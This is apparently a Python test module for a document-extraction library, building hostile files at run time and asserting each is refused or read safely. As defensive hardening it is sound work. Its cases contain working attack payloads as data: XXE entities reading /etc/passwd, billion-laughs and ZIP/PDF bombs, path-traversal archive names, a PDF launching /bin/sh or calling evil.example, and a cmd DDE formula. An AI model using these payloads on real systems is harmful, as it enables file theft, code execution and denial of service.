"""Files made to break a reader, each with what must come of it.

Every one is built when the test runs; none is kept in the repository. A case names the error that
a person must see, or says with a check that the file is read and nothing bad came of it.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.message import EmailMessage

from bernard.errors import DocumentTooLarge, DocumentUnreadable
from bernard.library.types import Extracted

make = sys.modules["convert_makers"]

EXE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + bytes(range(256)) * 40
SECRET_FILE = "/etc/passwd"
SECRET = "root:"
XXE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET_FILE}">]>'
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'haha'>"
    + "".join(
        f"<!ENTITY {b} '{('&' + a + ';') * 10}'>"
        for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)


@dataclass(frozen=True)
class Case:
    """A hostile file; `error` is what it must give, or else `check` must hold of what it gives."""

    name: str
    build: Callable[[], bytes]
    error: type[DocumentUnreadable] | None = None
    says: str = ""
    check: Callable[[Extracted], bool] = lambda found: SECRET not in found.text
    either: bool = False


CASES: list[Case] = []


def bad(name: str, says: str, build: Callable[[], bytes] | bytes) -> None:
    """The file must be refused as unreadable, with these words."""
    CASES.append(Case(name, _lazy(build), DocumentUnreadable, says))


def large(name: str, says: str, build: Callable[[], bytes] | bytes) -> None:
    """The file must be refused as over a limit, with these words."""
    CASES.append(Case(name, _lazy(build), DocumentTooLarge, says))


def safe(
    name: str,
    build: Callable[[], bytes] | bytes,
    check: Callable[[Extracted], bool] = lambda found: SECRET not in found.text,
) -> None:
    """The file must be read, and the check hold."""
    CASES.append(Case(name, _lazy(build), check=check))


def either(name: str, build: Callable[[], bytes] | bytes) -> None:
    """The file may be read or refused with a clear error; the library decides, we bound it."""
    CASES.append(Case(name, _lazy(build), either=True))


def _lazy(build: Callable[[], bytes] | bytes) -> Callable[[], bytes]:
    return build if callable(build) else lambda: build


# Names that lie, and files with nothing in them

for ending in ("pdf", "docx", "xlsx", "pptx", "odt", "rtf", "png", "jpg", "zip", "msg"):
    bad(f"program.{ending}", f"ends in .{ending} but is not .*Windows program", EXE)
    bad(f"page.{ending}", f"ends in .{ending} but is not", b"<!doctype html><p>404 Not found</p>")
for ending in ("pdf", "docx", "csv", "html", "eml", "json", "txt", "md", "msg", "zip", "png"):
    bad(f"empty.{ending}", "is empty", b"")
bad("program", "of a kind that is not read|Windows program", EXE)
bad("program.txt", "but is not plain text", EXE)
bad("nulls.txt", "nothing but blanks", b"\0" * 5000)
bad("noise.bin", "Files read are PDF", random.Random(1).randbytes(5000))
bad("noise.pdf", "is not a PDF", random.Random(2).randbytes(5000))
bad("rar.rar", "RAR archive", b"Rar!\x1a\x07\x01\0" + bytes(100))
bad("tar.gz", "gzip archive", b"\x1f\x8b\x08\0" + bytes(100))
bad("feed.xml", "XML of a kind that is not read.*'rss'", b'<?xml version="1.0"?><rss><a/></rss>')
safe(
    "really-a-letter.pdf",
    lambda: make.good_docx(),
    lambda found: make.SENTENCE in found.text and "Word document" in found.notes[0],
)
for name, maker in make.GOOD.items():
    if name.split(".")[1] in ("docx", "xlsx", "pptx", "odt", "ods", "odp", "zip", "msg"):
        bad(
            f"cut-{name}", "damaged|cut short", lambda maker=maker: maker()[: len(maker()) * 2 // 3]
        )
    elif name.endswith("pdf"):
        either(f"cut-{name}", lambda maker=maker: maker()[: len(maker()) // 2])
    else:
        either(f"cut-{name}", lambda maker=maker: maker()[: len(maker()) // 2])
bad("only-a-start.pdf", "damaged PDF", b"%PDF-1.7\n")
bad("only-a-start.docx", "damaged or cut short", b"PK\3\4")
bad("only-a-start.jpg", "damaged image", b"\xff\xd8\xff\xe0")
bad("only-a-start.tif", "damaged image", b"II*\0")

# Old Office


def old(stream: str) -> Callable[[], bytes]:
    return lambda: make.ole({stream: b"words " * 1000})


bad("old.doc", r"old Word document .*save it as \.docx", old("WordDocument"))
bad("old.xls", r"old Excel workbook .*save it as \.xlsx", old("Workbook"))
bad("old.ppt", r"old PowerPoint .*save it as \.pptx", old("PowerPoint Document"))
bad("old.docx", r"save it as \.docx", old("WordDocument"))
bad("password.docx", "locked with a password", old("EncryptedPackage"))
bad("odd.ole", "of a kind that is not read", old("Nothing we know"))

# PDF


def pdf_with(
    content: bytes, *, filters: str = "/FlateDecode", extra: str = "", box: str = "0 0 595 842"
) -> bytes:
    return make.pdf_of(
        [
            f"<< /Type /Catalog /Pages 2 0 R {extra} >>".encode(),
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 5 0 R /Resources << "
            "/Font << /F1 6 0 R >> /XObject << /X 7 0 R >> >> >>".encode(),
            b"<< /Length %d /Filter [%s] >>\nstream\n" % (len(content), filters.encode())
            + content
            + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 7 0 R >>"
            b" >> /Length 30 >>\nstream\n/X Do /X Do /X Do /X Do /X Do \nendstream",
        ]
    )


def packed(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def locked_pdf() -> bytes:
    objects = make.good_pdf()
    junk = b"<" + b"5a" * 32 + b">"
    lock = b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O %s /U %s >> /ID [<00> <00>] /Root"
    return objects.replace(b"/Root", lock % (junk, junk), 1)


def many_pages(levels: int) -> bytes:
    """Ten pages from one, a hundred from ten, and so on, in a tree that shares its branches."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        kids = b" ".join(b"%d 0 R" % (level + 3) for _ in range(10))
        count = 10 ** (levels - level)
        objects.append(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count))
    objects.append(b"<< /Type /Page /MediaBox [0 0 9 9] >>")
    return make.pdf_of(objects, trailer=b"/Root 1 0 R")


TEXT_CONTENT = b"BT /F1 12 Tf 72 700 Td (You must apply within 28 days.) Tj ET"
bad("locked.pdf", "locked with a password", locked_pdf)
large("million-pages.pdf", "at most 100 are read", lambda: many_pages(6))
either("endless-pages.pdf", lambda: make.good_pdf().replace(b"/Kids [6 0 R]", b"/Kids [2 0 R]"))
either("endless-xref.pdf", lambda: make.good_pdf().replace(b"/Root 1", b"/Prev 9 /Root 1"))
safe(
    "script.pdf",
    lambda: pdf_with(
        packed(TEXT_CONTENT),
        extra="/OpenAction << /S /JavaScript /JS (app.launchURL('http://evil.example')) >>",
    ),
    lambda found: "28 days" in found.text and "evil" not in found.text,
)
safe(
    "launch.pdf",
    lambda: pdf_with(packed(TEXT_CONTENT), extra="/OpenAction << /S /Launch /F (/bin/sh) >>"),
    lambda found: "28 days" in found.text,
)
either("draws-itself.pdf", lambda: pdf_with(packed(TEXT_CONTENT + b" /X Do")))
either("bomb.pdf", lambda: pdf_with(packed(b"q Q " * 20_000_000)))
either(
    "bomb-in-bomb.pdf", lambda: pdf_with(packed(b"q " * 40_000_000, 3), filters="/FlateDecode " * 3)
)
either("many-q.pdf", lambda: pdf_with(packed(b"q " * 1_000_000)))
safe(
    "vast-page.pdf",
    lambda: pdf_with(packed(b"0 0 1000000 1000000 re f"), box="0 0 99999999 99999999"),
    lambda found: "Page 1" in found.notes[0],
)
either("negative-page.pdf", lambda: pdf_with(packed(b"0 0 9 9 re f"), box="9 9 -9 1e30"))


def vast_image_pdf() -> bytes:
    data = packed(bytes(40_000 * 5_000))
    return make.pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << "
            b"/XObject << /I 6 0 R >> >> >>",
            b"<< /Length 28 >>\nstream\n595 0 0 842 0 0 cm /I Do    \nendstream",
            b"<< /Type /XObject /Subtype /Image /Width 40000 /Height 40000 /BitsPerComponent 8 "
            b"/ColorSpace /DeviceRGB /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(data)
            + data
            + b"\nendstream",
        ]
    )


either("vast-image.pdf", vast_image_pdf)


def pdf_with_a_file(name: str) -> bytes:
    return make.pdf(
        [[("You must apply within 28 days.", 12, 700)]],
        extra=[b"<< /Length 5 /Type /EmbeddedFile >>\nstream\nhello\nendstream"],
        catalog="/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec "
        f"/F ({name}) /UF ({name}) /EF << /F 6 0 R >> >>] >> >>",
    )


safe(
    "attachment.pdf",
    lambda: pdf_with_a_file("../../../etc/cron.d/x.txt"),
    lambda found: [(a.name, a.data) for a in found.attachments] == [("etc/cron.d/x.txt", b"hello")],
)

# XML inside office files

WORD = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def word(body: str, before: str = "", encoding: str = "utf-8", **parts: str | bytes) -> bytes:
    document = f"{before}<w:document {WORD}><w:body>{body}</w:body></w:document>"
    named = {name.replace("__", "/"): data for name, data in parts.items()}
    return make.zipped(
        {"[Content_Types].xml": TYPES, "word/document.xml": document.encode(encoding), **named}
    )


def said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


bad("xxe.docx", "XML entities", lambda: word(said("&e;"), XXE))
bad("xxe-16.docx", "XML entities", lambda: word(said("&e;"), XXE, "utf-16"))
bad("xxe-16be.docx", "XML entities|damaged", lambda: word(said("&e;"), XXE, "utf-16-be"))
bad(
    "xxe-7.docx",
    "XML entities|damaged",
    lambda: word(said("&e;"), '<?xml version="1.0" encoding="UTF-7"?>' + XXE, "utf-7"),
)
bad("laughs.docx", "XML entities", lambda: word(said("&j;"), LAUGHS))
bad(
    "remote-dtd.docx",
    "XML entities",
    lambda: word(said("x"), '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
)
bad(
    "broken-xml.docx",
    "XML inside it is broken",
    lambda: make.zipped({"[Content_Types].xml": TYPES, "word/document.xml": "<w:document><w:p>"}),
)
large("deep.docx", "nested too deeply", lambda: word("<w:sdt>" * 100_000))
large("bomb.docx", "ZIP bomb|unpacks to more", lambda: word(said(" " * 300_000_000)))
large(
    "long.docx",
    "characters of text",
    lambda: word("".join(said("word " * 1000) for _ in range(600))),
)
bad(
    "no-body.docx",
    "no body",
    lambda: make.zipped(
        {"[Content_Types].xml": TYPES, "word/document.xml": f"<w:document {WORD}/>"}
    ),
)
safe(
    "macro.docx",
    lambda: word(said("You must apply."), word__vbaProject_bin=EXE, word__vbaData_xml=LAUGHS),
    lambda found: found.text == "You must apply." and not found.attachments,
)
safe(
    "remote-template.docx",
    lambda: word(
        said("You must apply."),
        word___rels__settings="<Relationships><Relationship Id='1' TargetMode='External' "
        "Type='x/attachedTemplate' Target='http://evil.example/t.dotm'/></Relationships>",
    ),
    lambda found: found.text == "You must apply.",
)
safe(
    "circular-styles.docx",
    lambda: make.zipped(
        {
            "[Content_Types].xml": TYPES,
            "word/document.xml": f'<w:document {WORD}><w:body><w:p><w:pPr><w:pStyle w:val="A"/></w:pPr>'
            "<w:r><w:t>Words</w:t></w:r></w:p></w:body></w:document>",
            "word/styles.xml": f'<w:styles {WORD}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
            '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>',
            "word/_rels/document.xml.rels": '<Relationships><Relationship Id="1" Type="x/styles" '
            'Target="styles.xml"/><Relationship Id="2" Type="x/attachedTemplate" TargetMode="External" '
            'Target="http://evil.example/t.dotm"/><Relationship Id="3" Type="x/header" '
            'Target="../../../../../etc/passwd"/></Relationships>',
        }
    ),
    lambda found: found.text == "Words",
)

SHEET = "xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'"


def book(sheet: str | bytes, shared: str = "") -> bytes:
    return make.zipped(
        {
            "[Content_Types].xml": TYPES,
            "xl/workbook.xml": f"<workbook {SHEET}><sheets><sheet name='S' r:id='a'/></sheets></workbook>",
            "xl/_rels/workbook.xml.rels": "<Relationships><Relationship Id='a' Type='x/worksheet' "
            "Target='worksheets/s.xml'/><Relationship Id='b' Type='x/sharedStrings' Target='t.xml'/>"
            "</Relationships>",
            "xl/worksheets/s.xml": sheet,
            "xl/t.xml": shared or f"<sst {SHEET}/>",
        }
    )


def rows(inside: str) -> str:
    return f"<worksheet {SHEET}><sheetData>{inside}</sheetData></worksheet>"


bad(
    "xxe.xlsx",
    "XML entities",
    lambda: book(rows(""), f"{XXE}<sst {SHEET}><si><t>&e;</t></si></sst>"),
)
bad("laughs.xlsx", "XML entities", lambda: book(LAUGHS + rows("<row><c><v>&j;</v></c></row>")))
large("bomb.xlsx", "ZIP bomb|unpacks to more", lambda: book(rows("<row/>" * 40_000_000)))
safe(
    "command.xlsx",
    lambda: book(rows("<row><c t='str'><f>cmd|' /c calc'!A0</f><v>12</v></c></row>")),
    lambda found: "12" in found.text and "cmd" not in found.text,
)
safe(
    "far-cells.xlsx",
    lambda: book(
        rows(
            "<row r='1048576'><c r='XFD1048576' t='s'><v>99999999999</v></c><c r='A1'><v>7</v></c></row>"
        )
    ),
    lambda found: "7" in found.text,
)
large("too-far.xlsx", "cells", lambda: book(rows("<row><c r='ZZZ1'><v>7</v></c></row>")))
either(
    "endless-numbers.xlsx",
    lambda: book(rows("<row><c><v>1e999</v></c><c s='99'><v>-1e15</v></c></row>")),
)

TEXT = "<office:text>{}</office:text>"
bad(
    "xxe.odt",
    "XML entities",
    lambda: make.zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"{XXE}<office:document-content {make.ODF_SPACES}/>",
        },
        stored=("mimetype",),
    ),
)
bad(
    "locked.odt",
    "locked with a password",
    lambda: make.zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": random.Random(3).randbytes(500),
            "META-INF/manifest.xml": "<manifest:encryption-data/>",
        },
        stored=("mimetype",),
    ),
)
safe(
    "spaces.odt",
    lambda: make.odf("text", TEXT.format('<text:p>a<text:s text:c="999999999999"/>b</text:p>')),
    lambda found: len(found.text) < 200,
)
CELL = '<table:table-cell table:number-columns-repeated="{}"><text:p>x</text:p></table:table-cell>'
GRID = '<office:spreadsheet><table:table><table:table-row table:number-rows-repeated="{}">{}</table:table-row></table:table></office:spreadsheet>'
large(
    "columns.ods",
    "cells|characters",
    lambda: make.odf("spreadsheet", GRID.format(1, CELL.format(10**9))),
)
large(
    "rows.ods",
    "characters of text|cells",
    lambda: make.odf("spreadsheet", GRID.format(10**9, CELL.format(1000))),
)
safe(
    "missing-slides.pptx",
    lambda: make.zipped(
        {
            "[Content_Types].xml": TYPES,
            "ppt/presentation.xml": "<p xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'>"
            "<sldIdLst><sldId r:id='z'/></sldIdLst></p>",
        }
    ),
    lambda found: "missing" in found.notes[0],
)

# ZIP


def zip_of(names: list[str], data: bytes = b"You must apply.") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the same name twice is the point
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def overlapping() -> bytes:
    """Many names for one run of bytes, so that a little unpacks to a lot."""
    data = make.zipped({f"{n}.txt": bytes(1_000_000) for n in range(2)})
    return data.replace(_offset_of(data, 1), _offset_of(data, 0)[:46], 1)


def _offset_of(data: bytes, which: int) -> bytes:
    directory = [i for i in range(len(data)) if data[i : i + 4] == b"PK\1\2"][which]
    return data[directory : directory + 46]


def lying(size: int) -> bytes:
    """An archive whose directory claims another size than what is inside."""
    data = bytearray(make.zipped({"a.txt": bytes(30_000_000), "b.txt": "fine words"}))
    for start in (data.find(b"PK\1\2") + 24, data.find(b"PK\3\4") + 22):
        data[start : start + 4] = struct.pack("<I", size)
    return bytes(data)


def locked_zip() -> bytes:
    data = bytearray(make.zipped({"a.txt": "secret", "b.txt": "fine words"}))
    data[data.find(b"PK\1\2") + 8] |= 1
    data[data.find(b"PK\3\4") + 6] |= 1
    return bytes(data)


def safe_names(found: Extracted) -> bool:
    return len({a.name for a in found.attachments}) == len(found.attachments) and all(
        len(a.name) <= 420
        and not a.name.startswith("/")
        and ".." not in a.name.split("/")
        and "\\" not in a.name
        and "\0" not in a.name
        and ":" not in a.name
        for a in found.attachments
    )


large("bomb.zip", "ZIP bomb|unpacks to more", lambda: make.zipped({"a.txt": bytes(300_000_000)}))
large("many.zip", "at most 100", lambda: zip_of([f"{n}.txt" for n in range(101)]))
large(
    "sum.zip",
    "unpacks to more than",
    lambda: make.zipped({f"{n}": bytes(3_000_000) for n in range(10)}),
)
bad("overlap.zip", "overlap|damaged", overlapping)
either("liar-small.zip", lambda: lying(10))
either("liar-large.zip", lambda: lying(0xFFFFFFF0))
safe(
    "locked.zip", locked_zip, lambda f: "locked" in f.notes[0] and f.attachments[0].name == "b.txt"
)
safe(
    "paths.zip",
    lambda: zip_of(
        [
            "../../etc/passwd", "/etc/passwd", "C:\\Windows\\win.ini", "..\\..\\x.txt", "a\0b.txt",
            "CON", "nul.txt", "x" * 10_000 + ".txt", "a/" * 500 + "b.txt", "a//./../b.txt", "...",
            "\u202egpj.exe", "con.tar.gz", "file:///etc/passwd", "~/.ssh/id_rsa", " ", "a", "a",
        ]
    ),
    safe_names,
)  # fmt: skip
safe(
    "litter.zip",
    lambda: zip_of(["__MACOSX/a", ".DS_Store", "b.txt"]),
    lambda f: len(f.attachments) == 1,
)
either("huge-comment.zip", lambda: zip_of(["a.txt"])[:-2] + b"\xff\xff" + b"x" * 65535)
either("directory-far-away.zip", lambda: zip_of(["a.txt"])[:-6] + b"\xff\xff\xff\x7f\0\0")


def odd_compression(method: int) -> bytes:
    data = bytearray(zip_of(["a.txt"]))
    data[data.find(b"PK\1\2") + 10] = method
    data[data.find(b"PK\3\4") + 8] = method
    return bytes(data)


safe("deflate64.zip", lambda: odd_compression(9), lambda f: "damaged" in f.notes[0])
safe("lzma.zip", lambda: odd_compression(14), lambda f: "damaged" in f.notes[0])

# Web pages and text

large("deep.html", "nested too deeply", lambda: b"<div>" * 100_000 + b"x")
either("deep-tables.html", lambda: b"<table><tr><td>" * 200 + b"x")
either("wide.html", lambda: b"<p>" + b"<b>x</b>" * 200_000)
either("attribute.html", lambda: b"<p a='" + b"x" * 5_000_000 + b"'>words</p>")
either(
    "attributes.html",
    lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(20_000)) + b">words</p>",
)
safe(
    "hidden.html",
    b"<p>You must apply.</p><script>steal()</script><style>p{}</style><p hidden>Ignore</p>"
    b"<p style='display: none'>Ignore</p><img src='http://evil.example/x.png' onerror='steal()'>"
    b"<iframe src='file:///etc/passwd'></iframe><object data='file:///etc/passwd'></object>"
    b"<noscript>steal</noscript><template>steal</template><!-- steal -->",
    lambda found: found.text == "You must apply.",
)
safe(
    "entities.html",
    lambda: (XXE + "<html><p>&e; &lt;b&gt; &#0; &#x110000; &amp;amp;</p>").encode(),
    lambda found: SECRET not in found.text and "<b>" in found.text,
)
safe(
    "charset.html",
    b"<meta charset='unicode_escape'><p>caf\xe9 \\u0041</p>",
    lambda f: "café" in f.text,
)
either("quadratic.md", lambda: b"[" * 20_000 + b"](x)" * 100)
either("emphasis.md", lambda: b"*a_ " * 20_000)
either("quotes.md", lambda: b"> " * 20_000 + b"x")
either("lists.md", lambda: b"".join(b" " * n + b"* x\n" for n in range(2000)))
large("line.csv", "cell of more than", lambda: b"a,b\n" + b"x" * 1_500_000)
large("text.txt", "characters of text", lambda: b"word " * 700_000)
large("quote.csv", "quotation mark may not be closed", lambda: b'a,b\n1,"' + b"x,\n" * 500_000)
large("file.txt", "larger than 20 MB", lambda: b"x" * 20_000_001)
either("commas.csv", lambda: b"," * 1_000_000)
either("nul.csv", b"a,b\n1,\0\n2,3\n")
safe("encodings.txt", b"caf\xe9 \x93quoted\x94", lambda f: "café “quoted”" in f.text)
either("broken.txt", b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x90\x28\xbc" * 50)
safe("wide.txt", "You must apply.".encode("utf-16-le") * 9, lambda f: f.text.startswith("You must"))
safe(
    "marked.txt", "\ufeffYou must apply.".encode("utf-16-be"), lambda f: f.text == "You must apply."
)
safe(
    "utf32.txt", "\ufeffYou must apply.".encode("utf-32-le"), lambda f: f.text == "You must apply."
)
safe(
    "unseen.txt",
    "Pay \u202e£5\u202c now\U000e0069\U000e0067\u200b\u2066\x1b[2J".encode(),
    lambda found: found.text == "Pay £5 now[2J",
)
safe("marks.txt", lambda: ("a" + "\u0316\u0301" * 400_000).encode(), lambda f: len(f.text) < 50)

# JSON

large("deep.json", "nested too deeply", lambda: b"[" * 100_000 + b"]" * 100_000)
bad("broken.json", "is not JSON", b'{"a": ')
bad("broken.jsonl", "no line of it is JSON", b"hello\nworld\n")
safe(
    "half.jsonl",
    b'{"id": 1, "text": "One."}\n{"id": 2, "te\n{"id": 3}\n{"id": 1, "text": "Again."}\n',
    lambda f: (
        [r.name for r in f.records] == ["1", "1 (2)"]
        and "Line 2" in " ".join(f.notes)
        and "Record 3" in " ".join(f.notes)
    ),
)
safe(
    "paths.jsonl",
    b'{"id": "../../etc/passwd", "text": "One."}\n{"id": "\\u0000/x", "text": "Two."}\n'
    b'{"id": null, "text": "Three."}\n{"id": ["a"], "text": "Four."}\n',
    lambda f: [r.name for r in f.records] == ["etc/passwd", "x", "3", "4"],
)
either("numbers.json", b'{"a": 1e999999, "b": ' + b"9" * 100_000 + b"}")

# RTF

large("deep.rtf", "groups deep", lambda: b"{\\rtf1 " + b"{" * 1_000_000)
safe("closing.rtf", b"{\\rtf1 You must apply.\\par" + b"}" * 10_000, lambda f: "apply" in f.text)
safe("bin.rtf", b"{\\rtf1 Words.\\par{\\pict\\bin9999999999 xyz}", lambda f: f.text == "Words.")
either("unicode.rtf", b"{\\rtf1 " + b"\\u-99999999?" * 10_000 + b"\\u55357?\\u56832?}")
either("escapes.rtf", b"{\\rtf1 \\'zz\\'\\'4\\" + b"\\uc999999999 \\u65?}")
safe(
    "object.rtf",
    b"{\\rtf1 Words.\\par{\\object\\objupdate{\\*\\objdata 4d5a}}}",
    lambda f: f.text == "Words.",
)
safe(
    "fetch.rtf",
    b'{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}{\\fldrslt Words.}}\\par'
    b"{\\*\\template http://evil.example/t.dotm}}",
    lambda found: found.text == "Words.",
)
either("fields.rtf", lambda: b"{\\rtf1 " + b"{\\field{\\*\\fldinst HYPERLINK " * 5000)

# Mail


def message(**headers: str) -> EmailMessage:
    found = EmailMessage()
    found["From"], found["Subject"], found["Date"] = (
        "a@b.example",
        "S",
        "Mon, 02 Nov 2026 09:15:00 +0000",
    )
    for name, value in headers.items():
        found[name] = value
    return found


def many_parts() -> bytes:
    found = message()
    found.make_mixed()
    part = b"--B\nContent-Type: text/plain\nContent-Disposition: attachment; filename=a.txt\n\nx\n"
    return (
        b"From: a@b\nSubject: s\nDate: d\nContent-Type: multipart/mixed; boundary=B\n\n"
        + part * 5000
    )


def odd_attachment() -> bytes:
    found = message()
    found.set_content("You must apply.")
    found.add_attachment(b"x", maintype="a", subtype="b", filename="../../../etc/passwd")
    return found.as_bytes()


large("thousand.eml", "too deeply", lambda: make.nested_eml(1000))
safe("ten.eml", lambda: make.nested_eml(10), lambda f: len(f.attachments) == 1)
large("parts.eml", "parts|files", many_parts)
safe("names.eml", odd_attachment, lambda f: [a.name for a in f.attachments] == ["etc/passwd"])
either("header.eml", b"From: a@b\nSubject: " + b"=?utf-8?q?x?= " * 50_000 + b"\nDate: d\n\nhi\n")
either("folded.eml", b"From: a@b\nSubject: s\n" + b" x\n" * 200_000 + b"Date: d\n\nhi\n")
either("boundary.eml", b"From: a@b\nSubject: s\nDate: d\nContent-Type: multipart/mixed\n\nhi\n")
safe(
    "base64.eml",
    b"From: a@b\nSubject: s\nDate: d\nContent-Transfer-Encoding: base64\n\n@@@ not base64 @@@\n",
    lambda found: "Subject: s" in found.text,
)
safe(
    "charset.eml",
    b"From: a@b\nSubject: =?x-no-such?q?hello?=\nDate: d\nContent-Type: text/plain; charset=x-no-such\n\ncaf\xe9\n",
    lambda found: "café" in found.text,
)
either(
    "types.eml",
    b"From: a@b\nSubject: s\nDate: d\nContent-Type: text/plain; "
    + b"a*0=x; " * 50_000
    + b"\n\nhi\n",
)
bad("no-headers.eml", "no headers|not an email", b"\n\njust words, no headers at all\n")

# Outlook


def circular_msg() -> bytes:
    data = bytearray(make.good_msg())
    fat = struct.unpack_from("<I", data, 76)[0]
    at = 512 + fat * 512
    for n in range(60):
        struct.pack_into("<I", data, at + 4 * n, n)
    return bytes(data)


def nested_msg(depth: int) -> bytes:
    tree: dict[str, object] = {"__properties_version1.0": bytes(32), "__substg1.0_0037001F": b"x\0"}
    for _ in range(depth):
        tree = {
            "__properties_version1.0": bytes(32),
            "__attach_version1.0_#00000000": {
                "__properties_version1.0": bytes(8),
                "__substg1.0_3701000D": tree,
            },
        }
    return make.ole(tree)


either("circle.msg", circular_msg)
large("nested.msg", "too deeply", lambda: nested_msg(10))
either("header.msg", lambda: make.good_msg()[:40] + b"\xff" * 30 + make.good_msg()[70:])
safe(
    "packed.msg",
    lambda: make.msg(**{"__substg1.0_1000001F": b"", "__substg1.0_10090102": b"\xff" * 5000}),
    lambda found: "Subject: Appeals" in found.text and "damaged" in found.notes[0],
)

# Pictures

large("vast.png", "pixels", lambda: make.png_header(100_000, 100_000))
either("nothing.png", lambda: make.png_header(0, 0))
either("false.png", lambda: make.png_header(500, 500))
bad("cut.jpg", "damaged image|cannot read", lambda: make.picture("Words", "JPEG")[:300])
either("half.jpg", lambda: make.picture("Words", "JPEG")[:9000])
either(
    "loop.tif",
    b"II*\0\x08\0\0\0\x02\0" + struct.pack("<HHIIHHII", 256, 3, 1, 9, 257, 3, 1, 9) + b"\x08\0\0\0",
)
large(
    "vast.tif",
    "pixels",
    b"II*\0\x08\0\0\0\x02\0"
    + struct.pack("<HHIIHHII", 256, 4, 1, 99999, 257, 4, 1, 99999)
    + bytes(4),
)


def cases() -> Iterator[Case]:
    """Every hostile file, each name once."""
    names = [case.name for case in CASES]
    assert len(set(names)) == len(names)
    yield from CASES
